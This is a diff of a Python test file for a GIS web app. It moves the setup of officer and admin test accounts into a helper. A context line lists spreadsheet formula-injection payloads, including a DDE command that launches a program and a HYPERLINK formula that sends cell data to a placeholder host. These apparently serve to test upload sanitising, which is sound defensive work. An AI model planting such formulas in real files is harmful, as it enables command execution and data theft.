@@ -18,7 +18,7 @@ from click.testing import CliRunner
 from gisapp.accounts import Accounts
 from gisapp.cli import cli
 from gisapp.web.app import create_app
-from tests.helpers import PASSWORD, signed_in, token_of
+from tests.helpers import signed_in, staff_accounts, token_of
 from tests.stores import BACKENDS, new_store
 
 # every upload is checked in a child process (a second or more each)
@@ -29,10 +29,8 @@ FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', 
 
 
 def make_app(store_url, tmp_path, **config):
-    accounts = Accounts(tmp_path / "acc.sqlite")
-    for name, role in (("officer1", "officer"), ("officer2", "officer"), ("admin1", "admin")):
-        if accounts.get(name) is None:
-            accounts.add(name, PASSWORD, role)
+    if not (tmp_path / "acc.sqlite").exists():
+        staff_accounts(tmp_path / "acc.sqlite", (("officer1", "officer"), ("officer2", "officer"), ("admin1", "admin")))
     return create_app({"STORE": store_url, "ACCOUNTS": str(tmp_path / "acc.sqlite"),
                        "UPLOADS": str(tmp_path / "uploads"), "TESTING": True, "MAX_UPLOAD_MB": 1, **config})
 
